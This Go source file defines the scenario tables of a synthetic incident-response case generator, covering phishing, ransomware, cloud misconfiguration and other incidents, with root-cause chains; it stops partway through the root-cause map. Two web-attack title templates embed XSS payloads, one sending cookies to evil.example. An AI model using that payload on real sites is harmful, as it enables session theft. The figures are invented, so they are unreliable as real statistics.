package sample

import "strings"

// The tables below are the generator's knowledge of incident response work.
// Figures are plausible orders of magnitude from public IR reports (median
// ransomware dwell of days, insider and supplier compromises found after
// months, phishing reported within hours), not measurements of anyone.

// gap is a log-normal duration: the median in hours and the spread (sigma
// of the underlying normal). sigma 1.0 makes the 90th percentile ~3.6 times
// the median, the heavy tail real milestone data shows.
type gap struct {
	median float64
	sigma  float64
}

// techPick is an ATT&CK technique and the probability that a case of the
// scenario records it.
type techPick struct {
	id string
	p  float64
}

// weighted is a choice with a relative weight.
type weighted struct {
	v string
	w float64
}

// scenario is one kind of incident.
type scenario struct {
	category string
	label    string // human name for exercise titles
	weight   float64
	// severity weights: critical, high, medium, low, informational.
	severity [5]float64
	// gaps between consecutive milestones: compromise→detection (dwell),
	// detection→triage, triage→containment, containment→eradication,
	// eradication→recovery, recovery→closure.
	gaps [6]gap
	// pCompromise is the probability the compromise time is known.
	pCompromise float64
	// pNoEradication is the probability no eradication step is recorded
	// (a wiped laptop, a mitigated flood).
	pNoEradication float64
	techniques     []techPick
	titles         []titleSpec
	tags           []string
	rootCauses     []weighted
	ruleTitles     []string
	wentWell       []string
	needsWork      []string
	// platforms are the platform sets (space-separated) of a case whose
	// title names none; teams own the response; sources say who detected
	// the incident unless the title does.
	platforms []weighted
	teams     []weighted
	sources   []weighted
	// assets are the kinds of affected asset a case records, each with its
	// probability.
	assets []assetPick
	// playbook is the response playbook a review may update, with changes.
	playbook        string
	playbookChanges []string
	impact          impactProfile
}

// titleSpec is a title template with, when the title implies them, its
// platforms (comma-separated) and who detected it.
type titleSpec struct {
	text      string
	platforms string
	source    string
}

// tt is a titleSpec from the text and "platforms|source".
func tt(text, hints string) titleSpec {
	plat, src, _ := strings.Cut(hints, "|")
	return titleSpec{text: text, platforms: plat, source: src}
}

// assetPick is a kind of affected asset and how often a case records one.
type assetPick struct {
	kind string
	p    float64
}

// impactProfile says how often a case of a scenario records its impact and
// the medians of what it records (0: never).
type impactProfile struct {
	p         float64
	records   float64
	downtime  float64 // hours
	costScale float64 // multiplies the severity's cost median (0 = 1)
}

// severityNames are in the order of scenario.severity.
var severityNames = [5]string{"critical", "high", "medium", "low", "informational"}

// scenarios is the mix; weights are relative shares of all cases.
var scenarios = []scenario{
	{
		category: "phishing", label: "credential phishing", weight: 20,
		severity:    [5]float64{2, 15, 48, 30, 5},
		gaps:        [6]gap{{6, 1.3}, {1, 1.0}, {3, 1.0}, {10, 0.9}, {8, 0.9}, {72, 0.8}},
		pCompromise: 0.85, pNoEradication: 0.05,
		techniques: []techPick{{"T1566.001", 0.45}, {"T1566.002", 0.6}, {"T1204.001", 0.4}, {"T1204.002", 0.3},
			{"T1598.003", 0.15}, {"T1078", 0.25}, {"T1114.002", 0.1}, {"T1557", 0.05}, {"T1566.004", 0.04}},
		titles: []titleSpec{
			tt("Credential phishing targeting {dept} ({n} recipients)", "m365|"),
			tt("Spear-phishing attachment opened by {person}", "m365,windows|"),
			tt("Fake Microsoft 365 login page harvesting {dept} credentials", "m365|"),
			tt("QR-code phishing (quishing) campaign against {dept}", "m365|"),
			tt("DocuSign lure delivering HTML smuggling payload to {person}", "m365,windows|"),
			tt("Phishing email with malicious OneNote attachment in {dept}", "m365,windows|"),
			tt("Adversary-in-the-middle phishing kit captured session of {person}", "m365,azure|"),
			tt("Callback phishing: help-desk impersonation call to {person}", "m365,windows|"),
		},
		tags:            []string{"phishing", "email", "credential-theft", "m365", "user-reported"},
		rootCauses:      []weighted{{"phishing-susceptibility", 6}, {"missing-mfa", 2}, {"insufficient-monitoring", 1}, {"weak-credentials", 1}},
		ruleTitles:      []string{"Suspicious inbox login after phishing click", "HTML smuggling attachment delivered", "OneNote spawning script interpreter", "Login from AiTM proxy infrastructure"},
		wentWell:        []string{"The user reported the email within minutes via the report button", "Mail purge removed the message from all mailboxes in under an hour"},
		needsWork:       []string{"The lookalike domain was not blocked although it was registered a week earlier", "Several recipients clicked before the purge completed"},
		platforms:       []weighted{{"m365", 9}, {"m365 windows", 5}, {"google-workspace", 1}},
		teams:           []weighted{{"SOC", 9}, {"CSIRT", 1}},
		sources:         []weighted{{"internal", 94}, {"external-party", 4}, {"customer", 2}},
		assets:          []assetPick{{"account", 0.9}, {"workstation", 0.35}},
		playbook:        "Phishing response",
		playbookChanges: []string{"Add QR-code lures to the triage checklist", "Purge by message ID before resetting credentials", "Block the sender domain tenant-wide on the first report"},
		impact:          impactProfile{p: 0.08, records: 40, downtime: 0},
	},
	{
		category: "malware", label: "commodity malware", weight: 14,
		severity:    [5]float64{3, 25, 50, 20, 2},
		gaps:        [6]gap{{18, 1.4}, {1, 1.0}, {2, 1.0}, {8, 0.9}, {12, 0.9}, {96, 0.8}},
		pCompromise: 0.8, pNoEradication: 0.05,
		techniques: []techPick{{"T1204.002", 0.6}, {"T1059.001", 0.5}, {"T1547.001", 0.35}, {"T1055", 0.2}, {"T1071.001", 0.5},
			{"T1027", 0.3}, {"T1105", 0.4}, {"T1053.005", 0.2}, {"T1218.011", 0.15}, {"T1189", 0.15}, {"T1555.003", 0.15}},
		titles: []titleSpec{
			tt("Qakbot infection on {host}", "windows|"),
			tt("Infostealer (Lumma) exfiltrated browser credentials from {host}", "windows|"),
			tt("SocGholish fake browser update on {host}", "windows|"),
			tt("Cobalt Strike beacon detected on {host}", "windows|"),
			tt("Malicious USB drive plugged into {host} in {site}", "windows|"),
			tt("Cryptominer on build server {host}", "linux|"),
			tt("Trojanised installer downloaded by {person}", "|"),
		},
		tags:            []string{"malware", "endpoint", "edr", "c2", "infostealer"},
		rootCauses:      []weighted{{"phishing-susceptibility", 3}, {"insufficient-monitoring", 2}, {"misconfiguration", 2}, {"unpatched-vulnerability", 1}},
		ruleTitles:      []string{"Rundll32 loading DLL from user temp folder", "Scheduled task created by Office process", "Beacon-like periodic HTTPS to rare domain", "Browser credential store read by unsigned binary"},
		wentWell:        []string{"EDR isolated the host automatically", "The reimaging runbook worked as written"},
		needsWork:       []string{"Local admin rights let the payload persist", "Application allow-listing was in audit mode only"},
		platforms:       []weighted{{"windows", 80}, {"macos", 12}, {"linux", 8}},
		teams:           []weighted{{"SOC", 8}, {"CSIRT", 2}},
		sources:         []weighted{{"internal", 92}, {"external-party", 8}},
		assets:          []assetPick{{"host", 1}, {"account", 0.4}},
		playbook:        "Malware containment",
		playbookChanges: []string{"Isolate with EDR before collecting memory", "Reimage instead of cleaning when persistence is found", "Check for stolen browser credentials and reset sessions"},
		impact:          impactProfile{p: 0.12, records: 0, downtime: 6},
	},
	{
		category: "account-takeover", label: "account takeover", weight: 10,
		severity:    [5]float64{5, 30, 45, 18, 2},
		gaps:        [6]gap{{48, 1.2}, {1, 1.0}, {2, 1.0}, {12, 0.9}, {12, 0.9}, {96, 0.8}},
		pCompromise: 0.8, pNoEradication: 0.05,
		techniques: []techPick{{"T1110.003", 0.35}, {"T1110.004", 0.3}, {"T1078.004", 0.6}, {"T1621", 0.3}, {"T1539", 0.2},
			{"T1558.003", 0.15}, {"T1098.005", 0.15}, {"T1111", 0.1}, {"T1078.002", 0.15}},
		titles: []titleSpec{
			tt("Password spraying against Entra ID from {country} residential proxies", "azure,m365|"),
			tt("MFA fatigue push bombing of {person}", "azure,m365|"),
			tt("Credential stuffing on customer login portal ({n} accounts)", "linux,aws|"),
			tt("Kerberoasting of service accounts in {dept}", "windows|"),
			tt("Stolen session cookie replayed for {person}", "m365,okta|"),
			tt("Compromised VPN account of {person} used from {country}", "network,windows|"),
		},
		tags:            []string{"identity", "entra-id", "mfa", "credential-stuffing", "vpn"},
		rootCauses:      []weighted{{"weak-credentials", 5}, {"missing-mfa", 3}, {"insufficient-monitoring", 1}},
		ruleTitles:      []string{"Many failed logins followed by success from one IP", "Repeated MFA push denials then approval", "TGS requests with RC4 for many SPNs", "Impossible travel for privileged account"},
		wentWell:        []string{"Conditional access blocked the legacy-protocol attempts", "Identity team revoked sessions within the hour"},
		needsWork:       []string{"Service account passwords had not been rotated in years", "Number matching was not enforced for MFA pushes"},
		platforms:       []weighted{{"azure m365", 6}, {"okta", 2}, {"windows", 1}},
		teams:           []weighted{{"Identity Security", 5}, {"SOC", 5}},
		sources:         []weighted{{"internal", 80}, {"customer", 12}, {"external-party", 8}},
		assets:          []assetPick{{"account", 0.95}, {"service-account", 0.25}},
		playbook:        "Account compromise",
		playbookChanges: []string{"Revoke refresh tokens, not only the password", "Check for new MFA methods and inbox rules", "Review OAuth consent grants of the account"},
		impact:          impactProfile{p: 0.15, records: 300, downtime: 0},
	},
	{
		category: "ransomware", label: "ransomware", weight: 9,
		severity:    [5]float64{35, 45, 15, 5, 0},
		gaps:        [6]gap{{120, 1.0}, {0.5, 0.8}, {6, 0.9}, {72, 0.8}, {120, 0.9}, {240, 0.7}},
		pCompromise: 0.8, pNoEradication: 0.03,
		techniques: []techPick{{"T1486", 0.95}, {"T1490", 0.7}, {"T1566.001", 0.25}, {"T1190", 0.3}, {"T1133", 0.3},
			{"T1078", 0.4}, {"T1059.001", 0.5}, {"T1021.001", 0.5}, {"T1021.002", 0.3}, {"T1003.001", 0.5}, {"T1558.003", 0.2},
			{"T1047", 0.3}, {"T1562.001", 0.5}, {"T1567.002", 0.35}, {"T1489", 0.4}, {"T1219", 0.25}, {"T1570", 0.3}, {"T1482", 0.2}, {"T1657", 0.1}},
		titles: []titleSpec{
			tt("LockBit 3.0 encryption on file server {host}", "windows|attacker"),
			tt("Akira ransomware via unpatched VPN appliance", "windows,esxi,network|attacker"),
			tt("BlackCat/ALPHV affiliate encrypted {dept} shares", "windows|attacker"),
			tt("Black Basta ransomware after Qakbot infection on {host}", "windows|"),
			tt("Play ransomware on ESXi cluster in {site}", "esxi,windows|attacker"),
			tt("Ransom note found on {host}; backups deleted", "windows,esxi|attacker"),
			tt("Double extortion: data leak site lists {dept} files", "windows|external-party"),
		},
		tags:            []string{"ransomware", "extortion", "major-incident", "backup", "esxi", "lateral-movement"},
		rootCauses:      []weighted{{"unpatched-vulnerability", 4}, {"weak-credentials", 3}, {"phishing-susceptibility", 2}, {"insufficient-monitoring", 2}, {"third-party-access", 1}},
		ruleTitles:      []string{"Volume shadow copy deletion via vssadmin", "Mass file rename with unknown extension", "PsExec service installation on many hosts", "LSASS memory access by non-system process", "Rclone execution with cloud storage remote"},
		wentWell:        []string{"Immutable backups allowed full restore without paying", "The crisis team convened within an hour", "Legal and comms followed the pre-approved playbook"},
		needsWork:       []string{"Domain admin credentials were cached on workstations", "Detection came only after encryption started", "Restore of the ERP database took days longer than the RTO"},
		platforms:       []weighted{{"windows", 6}, {"windows esxi", 4}},
		teams:           []weighted{{"CSIRT", 7}, {"SOC", 3}},
		sources:         []weighted{{"internal", 55}, {"attacker", 40}, {"external-party", 5}},
		assets:          []assetPick{{"host", 1}, {"dc", 0.5}, {"esxi", 0.45}, {"edge", 0.35}, {"service-account", 0.3}},
		playbook:        "Ransomware",
		playbookChanges: []string{"Isolate the ESXi management network first", "Verify immutable backups before any negotiation", "Block domain admin logons on workstations during the incident", "Pre-approve the out-of-band communication channel"},
		impact:          impactProfile{p: 0.85, records: 2500, downtime: 48},
	},
	{
		category: "web-app-exploitation", label: "web application exploitation", weight: 9,
		severity:    [5]float64{10, 35, 40, 13, 2},
		gaps:        [6]gap{{480, 1.3}, {2, 1.0}, {10, 1.0}, {48, 0.9}, {24, 0.9}, {168, 0.8}},
		pCompromise: 0.7, pNoEradication: 0.04,
		techniques: []techPick{{"T1190", 0.95}, {"T1505.003", 0.45}, {"T1059.004", 0.35}, {"T1083", 0.3}, {"T1552.001", 0.3},
			{"T1041", 0.3}, {"T1068", 0.1}, {"T1210", 0.1}, {"T1595.002", 0.2}, {"T1212", 0.05}},
		titles: []titleSpec{
			tt("SQL injection in {app} search endpoint", "linux|"),
			tt("Web shell found on {app} server {host}", "windows|"),
			tt("MOVEit Transfer exploitation (CVE-2023-34362)", "windows|external-party"),
			tt("Stored XSS in support portal: <script>document.location='//evil.example/'+document.cookie</script>", "linux|"),
			tt("Path traversal in {app} exposed configuration files", "linux|"),
			tt("Exploitation of Confluence OGNL injection on {host}", "linux|"),
			tt("API broken object-level authorization in {app}", "aws,linux|"),
			tt("Reflected XSS \"><img src=x onerror=alert(1)> reported by bug bounty", "linux|external-party"),
		},
		tags:            []string{"web", "appsec", "cve", "bug-bounty", "waf", "internet-facing"},
		rootCauses:      []weighted{{"unpatched-vulnerability", 5}, {"insecure-code", 3}, {"misconfiguration", 1}, {"insufficient-monitoring", 1}},
		ruleTitles:      []string{"Web server process spawning shell", "New JSP/ASPX file in web root", "SQL error spike in application logs", "Outbound connection from DMZ web host"},
		wentWell:        []string{"The WAF virtual patch was deployed the same day", "Developers shipped a fix within one sprint"},
		needsWork:       []string{"The application was missing from the vulnerability scanning scope", "Web server logs were kept for only seven days"},
		platforms:       []weighted{{"linux", 7}, {"windows", 3}},
		teams:           []weighted{{"AppSec", 6}, {"SOC", 4}},
		sources:         []weighted{{"internal", 68}, {"external-party", 24}, {"customer", 8}},
		assets:          []assetPick{{"app", 1}, {"web", 0.6}},
		playbook:        "Web application incident",
		playbookChanges: []string{"Deploy a WAF virtual patch before the code fix", "Keep web server logs for 90 days", "Page the application owner from the first alert"},
		impact:          impactProfile{p: 0.35, records: 5000, downtime: 4},
	},
	{
		category: "business-email-compromise", label: "business email compromise", weight: 8,
		severity:    [5]float64{15, 45, 35, 5, 0},
		gaps:        [6]gap{{336, 1.0}, {2, 1.0}, {8, 1.0}, {24, 0.9}, {48, 0.9}, {240, 0.8}},
		pCompromise: 0.75, pNoEradication: 0.05,
		techniques: []techPick{{"T1566.002", 0.5}, {"T1078.004", 0.8}, {"T1114.003", 0.6}, {"T1564.008", 0.5}, {"T1534", 0.3},
			{"T1656", 0.4}, {"T1657", 0.3}, {"T1585.002", 0.15}},
		titles: []titleSpec{
			tt("Invoice fraud: \"urgent\" wire transfer & CEO impersonation", "m365|"),
			tt("Mailbox rule forwarding {person}'s email to external address", "m365|"),
			tt("Vendor bank-detail change request from compromised supplier mailbox", "m365|external-party"),
			tt("Payroll diversion attempt for {person}", "m365,saas|"),
			tt("Gift-card scam impersonating the CFO", "m365|"),
		},
		tags:            []string{"bec", "fraud", "email", "finance", "mailbox-rule"},
		rootCauses:      []weighted{{"phishing-susceptibility", 3}, {"missing-mfa", 3}, {"process-gap", 3}, {"third-party-access", 1}},
		ruleTitles:      []string{"Inbox rule moving mail to RSS Feeds folder", "External forwarding rule created", "Login to mailbox from hosting provider ASN"},
		wentWell:        []string{"The bank recalled the transfer within 24 hours", "Finance verified the change by phone before paying"},
		needsWork:       []string{"Payment detail changes were accepted by email alone", "Mailbox audit logs were not enabled for all users"},
		platforms:       []weighted{{"m365", 1}},
		teams:           []weighted{{"SOC", 6}, {"CSIRT", 2}, {"Identity Security", 2}},
		sources:         []weighted{{"internal", 62}, {"external-party", 20}, {"customer", 18}},
		assets:          []assetPick{{"account", 0.9}, {"finance-mailbox", 0.3}},
		playbook:        "Payment fraud",
		playbookChanges: []string{"Call the bank's fraud line within the hour", "Search all mailboxes for the same inbox rule", "Require call-back verification for bank detail changes"},
		impact:          impactProfile{p: 0.6, records: 20, downtime: 0, costScale: 1.5},
	},
	{
		category: "cloud-misconfiguration", label: "cloud misconfiguration", weight: 8,
		severity:    [5]float64{10, 35, 40, 12, 3},
		gaps:        [6]gap{{1440, 1.2}, {4, 1.0}, {6, 1.0}, {48, 0.9}, {24, 0.9}, {336, 0.8}},
		pCompromise: 0.6, pNoEradication: 0.05,
		techniques: []techPick{{"T1530", 0.8}, {"T1078.004", 0.4}, {"T1580", 0.3}, {"T1619", 0.3}, {"T1537", 0.15},
			{"T1098.001", 0.2}, {"T1526", 0.2}, {"T1552.005", 0.15}, {"T1496.001", 0.1}},
		titles: []titleSpec{
			tt("Public S3 bucket {bucket} exposed customer exports", "aws|"),
			tt("Azure storage SAS token with full access leaked in {app} repository", "azure|"),
			tt("Open Elasticsearch cluster indexed by Shodan", "aws,linux|external-party"),
			tt("Overly permissive IAM role assumed from unknown account", "aws|"),
			tt("GCP service-account key committed to public GitHub", "gcp,saas|external-party"),
			tt("Security group allowed RDP from 0.0.0.0/0 on {host}", "aws,windows|"),
			tt("Cryptomining in unused cloud region after access-key leak", "aws|"),
		},
		tags:            []string{"cloud", "aws", "azure", "gcp", "data-exposure", "iac"},
		rootCauses:      []weighted{{"misconfiguration", 6}, {"insufficient-monitoring", 2}, {"process-gap", 1}},
		ruleTitles:      []string{"S3 bucket policy made public", "Access key used from new country", "GetObject burst from unfamiliar principal", "IAM policy attached granting *:*"},
		wentWell:        []string{"CSPM flagged the exposure and the owner fixed it the same day", "Access logs were complete for the whole exposure window"},
		needsWork:       []string{"The Terraform module had no policy-as-code guard", "The resource had no owner tag, so finding its team took days"},
		platforms:       []weighted{{"aws", 55}, {"azure", 30}, {"gcp", 10}, {"aws kubernetes", 5}},
		teams:           []weighted{{"Cloud Security", 8}, {"SOC", 2}},
		sources:         []weighted{{"internal", 72}, {"external-party", 24}, {"customer", 4}},
		assets:          []assetPick{{"cloud-account", 1}, {"iam-role", 0.3}},
		playbook:        "Cloud exposure",
		playbookChanges: []string{"Snapshot the resource policy before changing it", "Query access logs for the whole exposure window", "Rotate every key the resource could reach"},
		impact:          impactProfile{p: 0.5, records: 20000, downtime: 0},
	},
	{
		category: "lost-device", label: "lost or stolen device", weight: 7,
		severity:    [5]float64{0, 10, 40, 40, 10},
		gaps:        [6]gap{{30, 0.9}, {2, 1.0}, {1, 1.0}, {4, 0.8}, {72, 0.8}, {120, 0.8}},
		pCompromise: 0.9, pNoEradication: 0.7,
		techniques: []techPick{{"T1005", 0.05}, {"T1200", 0.03}},
		titles: []titleSpec{
			tt("Laptop stolen from car of {person}", "windows|"),
			tt("Phone of {person} lost at {site} airport", "ios|"),
			tt("Unencrypted USB stick with HR data lost", "windows|"),
			tt("Backup tape missing after courier transfer", "linux|external-party"),
			tt("Tablet left in taxi by {person}", "android|"),
		},
		tags:            []string{"lost-device", "mdm", "physical", "pii", "encryption"},
		rootCauses:      []weighted{{"lost-or-stolen-asset", 6}, {"misconfiguration", 1}, {"process-gap", 1}},
		wentWell:        []string{"Full-disk encryption was verified from the MDM record", "The remote wipe confirmed within minutes"},
		needsWork:       []string{"The loss was reported a day late", "USB mass storage was not blocked on HR laptops"},
		platforms:       []weighted{{"windows", 6}, {"macos", 2}, {"ios", 1}, {"android", 1}},
		teams:           []weighted{{"Workplace IT", 7}, {"SOC", 3}},
		sources:         []weighted{{"internal", 97}, {"external-party", 3}},
		assets:          []assetPick{{"device", 1}, {"account", 0.6}},
		playbook:        "Lost or stolen device",
		playbookChanges: []string{"Confirm encryption from the MDM record before the wipe", "Revoke the device's tokens and certificates"},
		impact:          impactProfile{p: 0.2, records: 150, downtime: 0},
	},
	{
		category: "third-party", label: "third-party breach", weight: 6,
		severity:    [5]float64{10, 40, 40, 10, 0},
		gaps:        [6]gap{{2880, 1.0}, {12, 1.0}, {72, 1.0}, {240, 0.9}, {168, 0.9}, {720, 0.8}},
		pCompromise: 0.5, pNoEradication: 0.1,
		techniques: []techPick{{"T1195.002", 0.4}, {"T1199", 0.7}, {"T1078", 0.5}, {"T1133", 0.3}, {"T1190", 0.2},
			{"T1213", 0.2}, {"T1567.002", 0.2}},
		titles: []titleSpec{
			tt("Managed service provider's RMM tool abused to reach {dept}", "windows|"),
			tt("Payroll vendor breach exposed employee data", "saas|external-party"),
			tt("Compromised software update from {vendor}", "windows|external-party"),
			tt("Supplier VPN account used for lateral movement", "network,windows|"),
			tt("SaaS provider {vendor} notified us of a data breach", "saas|external-party"),
		},
		tags:            []string{"third-party", "supply-chain", "vendor", "msp", "notification"},
		rootCauses:      []weighted{{"third-party-access", 6}, {"insufficient-monitoring", 2}, {"process-gap", 1}},
		ruleTitles:      []string{"Vendor account login outside contract hours", "RMM tool executing on server tier"},
		wentWell:        []string{"The vendor contract's notification clause worked", "Network segmentation limited what the supplier could reach"},
		needsWork:       []string{"The vendor's standing access had never been reviewed", "We learned of the breach from the news before the vendor told us"},
		platforms:       []weighted{{"saas", 5}, {"windows", 3}, {"network windows", 2}},
		teams:           []weighted{{"CSIRT", 4}, {"SOC", 3}, {"Third-Party Risk", 3}},
		sources:         []weighted{{"external-party", 65}, {"internal", 35}},
		assets:          []assetPick{{"vendor", 1}, {"vendor-account", 0.4}},
		playbook:        "Third-party breach",
		playbookChanges: []string{"Ask for the vendor's indicators and timeline in the first call", "Suspend the vendor's access until its investigation ends"},
		impact:          impactProfile{p: 0.6, records: 3000, downtime: 0},
	},
	{
		category: "insider-threat", label: "insider threat", weight: 5,
		severity:    [5]float64{10, 40, 40, 10, 0},
		gaps:        [6]gap{{1920, 1.0}, {24, 1.0}, {48, 1.0}, {168, 0.9}, {72, 0.9}, {720, 0.8}},
		pCompromise: 0.7, pNoEradication: 0.1,
		techniques: []techPick{{"T1078", 0.6}, {"T1213", 0.4}, {"T1530", 0.2}, {"T1052.001", 0.3}, {"T1567.002", 0.4},
			{"T1048.003", 0.1}, {"T1005", 0.4}, {"T1074.001", 0.2}, {"T1485", 0.05}},
		titles: []titleSpec{
			tt("Departing engineer copied source code to personal cloud", "saas,windows|"),
			tt("Sales lead exported CRM contacts before resignation", "saas|"),
			tt("Administrator {person} accessed HR records without need", "saas|"),
			tt("Sabotage: scheduled deletion job left by former contractor", "linux|"),
			tt("Customer data printed and removed from {site}", "windows|"),
		},
		tags:            []string{"insider", "dlp", "hr", "data-exfiltration", "legal-hold"},
		rootCauses:      []weighted{{"insider-misuse", 6}, {"insufficient-monitoring", 2}, {"process-gap", 2}},
		ruleTitles:      []string{"Large upload to personal cloud storage", "Bulk CRM export by single user", "USB mass storage write over 1 GB"},
		wentWell:        []string{"HR, legal and security worked from one timeline", "DLP kept a copy of the uploaded files"},
		needsWork:       []string{"Access was not revoked on the day notice was given", "DLP alerts sat in a queue nobody owned"},
		platforms:       []weighted{{"saas", 6}, {"windows", 4}},
		teams:           []weighted{{"Insider Risk", 6}, {"SOC", 4}},
		sources:         []weighted{{"internal", 85}, {"external-party", 10}, {"customer", 5}},
		assets:          []assetPick{{"account", 1}, {"data-store", 0.7}},
		playbook:        "Insider investigation",
		playbookChanges: []string{"Involve HR and legal before any interview", "Place a legal hold on the mailbox first"},
		impact:          impactProfile{p: 0.4, records: 1000, downtime: 0},
	},
	{
		category: "ddos", label: "denial of service", weight: 4,
		severity:    [5]float64{10, 35, 40, 15, 0},
		gaps:        [6]gap{{0.3, 0.8}, {0.25, 0.8}, {1.5, 0.9}, {4, 0.8}, {2, 0.8}, {72, 0.8}},
		pCompromise: 0.95, pNoEradication: 0.4,
		techniques: []techPick{{"T1498", 0.7}, {"T1499", 0.3}, {"T1499.002", 0.3}},
		titles: []titleSpec{
			tt("Layer-7 DDoS against {app} checkout", "network,aws|"),
			tt("DNS amplification flood saturated {site} uplink", "network|"),
			tt("Hacktivist DDoS campaign during product launch", "network,aws|"),
		},
		tags:            []string{"ddos", "availability", "cdn", "hacktivist"},
		rootCauses:      []weighted{{"insufficient-capacity", 4}, {"misconfiguration", 2}},
		ruleTitles:      []string{"Request rate per client above baseline"},
		wentWell:        []string{"The CDN's always-on scrubbing absorbed most of the traffic"},
		needsWork:       []string{"The origin IP was reachable directly, bypassing the CDN"},
		platforms:       []weighted{{"network", 6}, {"network aws", 4}},
		teams:           []weighted{{"Network Security", 7}, {"SOC", 3}},
		sources:         []weighted{{"internal", 80}, {"customer", 20}},
		assets:          []assetPick{{"app", 1}, {"uplink", 0.5}},
		playbook:        "DDoS",
		playbookChanges: []string{"Switch scrubbing to always-on at the first alert", "Keep the provider's 24/7 contact in the runbook"},
		impact:          impactProfile{p: 0.5, records: 0, downtime: 3},
	},
}

// rootCause is the knowledge about one root-cause category.
type rootCause struct {
	summaries []string
	// chains are 5-Whys chains, each in order; a case uses a prefix of 2–5.
	chains [][]string
	// actions are follow-ups that address this cause: summary and owner.
	actions [][2]string
	// personal are whys that stop at a person instead of asking why the
	// system let it happen: what blameless reviews try to avoid.
	personal []string
	// pFail is how likely an incident of this cause still happens while
	// the organisation's fix for it should have held (a failed fix).
	pFail float64
}

var rootCauses = map[string]rootCause{
	"unpatched-vulnerability": {
		summaries: []string{"An internet-facing system ran a version with a known, exploited vulnerability.", "A critical patch was released but not applied within the SLA."},
		chains: [][]string{
			{"The attacker exploited a known CVE on the internet-facing appliance.", "The vendor patch released weeks earlier had not been applied.", "The appliance was missing from the vulnerability scanner's asset inventory.", "Asset onboarding relies on a manual spreadsheet.", "No team owns network edge devices end to end."},
			{"The server ran an end-of-life framework version.", "The upgrade was postponed twice for a release freeze.", "Risk acceptance had no expiry date.", "Exceptions are not reviewed by anyone after approval."},
		},
		actions:  [][2]string{{"Add edge appliances to weekly authenticated vulnerability scans", "Vulnerability Management"}, {"Define and enforce a 72-hour patch SLA for KEV-listed CVEs", "CISO Office"}, {"Automate asset inventory sync from the CMDB", "IT Operations"}, {"Decommission end-of-life servers in the DMZ", "Infrastructure Team"}},
		personal: []string{"The administrator postponed the patch."},
		pFail:    0.2,
	},
	"phishing-susceptibility": {
		summaries: []string{"A user entered credentials on a convincing phishing page.", "A malicious attachment was opened despite warnings."},
		chains: [][]string{
			{"The user entered credentials on a lookalike login page.", "The email passed the gateway because the domain was newly registered.", "The gateway does not score domains younger than 30 days.", "That feature is licensed but was never enabled."},
			{"The user opened an attachment from an unknown sender.", "The external-sender banner was missing on mobile clients.", "The banner is a transport rule that mobile apps do not render.", "Nobody tested the banner on mobile when it was rolled out.", "Awareness rollout had no acceptance criteria."},
		},
		actions:  [][2]string{{"Enable newly-registered-domain blocking on the mail gateway", "Email Security"}, {"Run targeted phishing simulation for the affected department", "Security Awareness"}, {"Roll out phishing-resistant MFA (FIDO2) for admins", "IAM Team"}, {"Add one-click report button to mobile mail clients", "Workplace IT"}},
		personal: []string{"The user opened an attachment from an unknown sender.", "The user did not check the sender's address."},
		pFail:    0.4,
	},
	"misconfiguration": {
		summaries: []string{"A resource was deployed with an insecure setting that nobody reviewed.", "A default configuration exposed a service to the internet."},
		chains: [][]string{
			{"The storage bucket allowed public reads.", "A developer changed the policy to debug an integration.", "The change bypassed infrastructure-as-code review.", "Console write access is granted to all developers.", "Least-privilege roles were never defined for the platform."},
			{"The service listened on all interfaces with default credentials.", "The hardening checklist was not applied.", "The checklist is a wiki page, not an automated baseline."},
		},
		actions:  [][2]string{{"Enforce policy-as-code checks (OPA) in the Terraform pipeline", "Cloud Platform Team"}, {"Remove console write access for developers in production", "Cloud Platform Team"}, {"Enable CSPM alerts for public storage to the SOC queue", "SOC"}, {"Publish a CIS-based hardening baseline as code", "Infrastructure Team"}},
		personal: []string{"The developer made the bucket public to debug an integration."},
		pFail:    0.25,
	},
	"weak-credentials": {
		summaries: []string{"An account with a weak or reused password and no MFA was taken over.", "A service account password had never been rotated."},
		chains: [][]string{
			{"The attacker logged in with a valid password.", "The password had appeared in a previous third-party breach.", "Breached-password screening is not enabled.", "The identity provider migration left that feature off."},
			{"The service account was kerberoastable with an 8-character password.", "It was created before the password policy existed.", "Service accounts are excluded from the rotation job.", "Nobody knows which applications use them."},
		},
		actions:  [][2]string{{"Enable breached-password protection in the identity provider", "IAM Team"}, {"Migrate service accounts to gMSA", "Directory Services"}, {"Rotate all service-account passwords older than one year", "Directory Services"}, {"Block legacy authentication tenant-wide", "IAM Team"}},
		personal: []string{"The user reused their password on another site."},
		pFail:    0.3,
	},
	"missing-mfa": {
		summaries: []string{"The account had no second factor, so a stolen password was enough.", "MFA was bypassed because legacy protocols were still allowed."},
		chains: [][]string{
			{"The stolen password alone gave mailbox access.", "The account was excluded from the MFA policy.", "The exclusion was added for a migration and never removed.", "Policy exclusions are not reviewed."},
			{"The attacker used IMAP, which skips MFA.", "Legacy authentication was still allowed for a scanner.", "The scanner vendor does not support modern auth.", "The replacement project was never funded."},
		},
		actions:  [][2]string{{"Remove stale exclusions from the MFA conditional-access policy", "IAM Team"}, {"Enforce number matching for push MFA", "IAM Team"}, {"Quarterly review of conditional-access exclusions", "CISO Office"}},
		personal: []string{"The admin added the exclusion and forgot to remove it."},
		pFail:    0.2,
	},
	"third-party-access": {
		summaries: []string{"A supplier's access or software was the path in.", "A vendor with standing privileged access was compromised."},
		chains: [][]string{
			{"The attacker used the supplier's VPN account.", "The supplier had standing 24/7 access.", "Just-in-time access was not required for vendors.", "Vendor onboarding predates the access policy.", "Contracts do not require the vendor to follow it."},
			{"The vendor's software update carried a backdoor.", "Updates are installed automatically without staging.", "There is no software supply-chain risk assessment."},
		},
		actions:  [][2]string{{"Require just-in-time, time-boxed access for all suppliers", "Vendor Management"}, {"Add breach-notification SLA of 24 hours to supplier contracts", "Legal"}, {"Stage vendor updates in a test ring before production", "IT Operations"}, {"Review all standing vendor accounts", "Vendor Management"}},
		personal: []string{"The vendor's engineer shared the VPN password with a colleague."},
		pFail:    0.3,
	},
	"insufficient-monitoring": {
		summaries: []string{"The attack was visible in logs nobody was alerting on.", "Telemetry for the affected system was not collected."},
		chains: [][]string{
			{"The activity lasted weeks before anyone noticed.", "The relevant logs were not sent to the SIEM.", "The log source was never onboarded after a platform change.", "Onboarding is not part of the change checklist."},
			{"An alert fired but was closed as benign.", "The analyst lacked context on the asset.", "Asset criticality is not enriched in the SIEM.", "The CMDB integration broke last year and nobody owns it.", "The SOC has no engineering capacity for integrations."},
		},
		actions:  [][2]string{{"Onboard cloud audit logs to the SIEM", "SOC"}, {"Write detection content for the observed techniques", "Detection Engineering"}, {"Enrich alerts with asset criticality from the CMDB", "Detection Engineering"}, {"Add log-source health monitoring", "SOC"}},
		personal: []string{"The analyst closed the alert as benign."},
